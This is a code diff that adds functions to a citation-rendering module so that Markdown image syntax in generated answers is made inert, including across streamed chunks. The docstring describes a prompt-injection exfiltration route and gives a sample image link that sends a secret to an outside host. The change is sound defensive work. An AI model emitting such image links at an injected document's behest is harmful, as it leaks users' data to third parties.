@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import re
+from collections.abc import Iterable, Iterator
 from pathlib import Path
 from typing import Any
 
@@ -144,6 +145,25 @@ def link_citations(text: str, sources: list[Source], key: str) -> str:
         return f'[\\[{number}\\]](#{source_anchor(key, number)} "{hover}")'
 
     return MARKER_RE.sub(lambda m: "".join(one(n) for n in marker_numbers(m)), text)
+
+
+def inert_images(markdown: str) -> str:
+    """Answer Markdown that makes the browser fetch nothing: `![` becomes `&#33;[`, so an image a
+    prompt-injected document asks for (`![x](http://host/?q=secret)`) shows as a plain link."""
+    return markdown.replace("![", "&#33;[")
+
+
+def inert_stream(pieces: Iterable[str]) -> Iterator[str]:
+    """`inert_images` over streamed pieces: a piece ending in "!" waits for the next one, so an
+    image marker split across two pieces is caught too."""
+    held = ""
+    for piece in pieces:
+        text = held + piece
+        held = "!" if text.endswith("!") else ""
+        if text[: len(text) - len(held)]:
+            yield inert_images(text[: len(text) - len(held)])
+    if held:
+        yield held
 
 
 def excerpt(text: str, limit: int = 700) -> str:
